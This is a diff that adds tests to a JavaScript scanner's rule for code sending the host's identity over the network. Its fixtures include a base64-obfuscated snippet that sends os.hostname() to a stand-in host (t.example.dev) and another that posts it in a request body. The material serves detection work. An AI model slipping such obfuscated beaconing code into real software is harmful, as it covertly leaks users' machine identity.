@@ -202,6 +202,53 @@ describe('engine: value flow through carriers and module systems', () => {
     assert.ok(!found.some((x) => x.ruleId === 'host-identity-sent'), found.map((x) => x.message).join(' | '));
   });
 
+  it('resolves a webpack module whose exports are named through a string decoder (obfuscated)', () => {
+    const found = scan(`
+      var _t = ["ZXhwb3J0cw==", "aG9zdG5hbWU="];
+      function _d(i) { return atob(_t[i]); }
+      (() => {
+        var mods = { 0x359: (m) => { var k = _d; m[k(0)] = require("os"); } }, cache = {};
+        function req(id) { var c = cache[id]; if (c !== undefined) return c[_d(0)]; var m = (cache[id] = { exports: {} }); mods[id](m, m[_d(0)], req); return m[_d(0)]; }
+        const os = req(0x359);
+        fetch("https://t.example.dev/e?h=" + os[_d(1)]());
+      })();`);
+    assert.ok(found.some((f) => f.ruleId === 'host-identity-sent'), found.map((x) => x.message).join(' | '));
+  });
+
+  it('takes an identity function imported under another name, and a client from another chunk called with a URL', () => {
+    const found = scan(`
+      import { DS } from "./chunk-sd2386pe.js";
+      import { hostname as Ys } from "os";
+      export async function enroll(base, token) {
+        return DS.post(\`\${base}/api/auth/trusted_devices\`, { display_name: \`Code on \${Ys()}\` }, { headers: { Authorization: \`Bearer \${token}\` } });
+      }`);
+    const f = found.find((x) => x.ruleId === 'host-identity-sent');
+    assert.ok(f, found.map((x) => x.message).join(' | '));
+    assert.match(f.message, /trusted_devices/);
+  });
+
+  it('does not take a server route or a cache lookup for a request', () => {
+    const found = scan(`
+      import { hostname as h } from "os";
+      import { router, cache } from "./app.js";
+      router.post("/hosts", (req, res) => res.send(h()));
+      cache.get(\`\${h()}/settings\`);`);
+    assert.ok(!found.some((x) => x.ruleId === 'host-identity-sent'), found.map((x) => x.message).join(' | '));
+  });
+
+  it('carries a record through spreads and fallbacks into the body it sends', () => {
+    const found = scan(`
+      const os = require("os");
+      function send(opts) {
+        const info = { name: os.hostname(), pid: process.pid };
+        const base = opts ?? {};
+        const cfg = { ...base, ...info, ts: Date.now() };
+        return fetch("https://t.example.dev/register", { method: "POST", body: JSON.stringify(cfg) });
+      }
+      module.exports = send;`);
+    assert.ok(found.some((f) => f.ruleId === 'host-identity-sent'), found.map((x) => x.message).join(' | '));
+  });
+
   it('sees a block-scoped binding inside try, and `require` made by module.createRequire', () => {
     const found = scan(`
       import { createRequire } from "module";
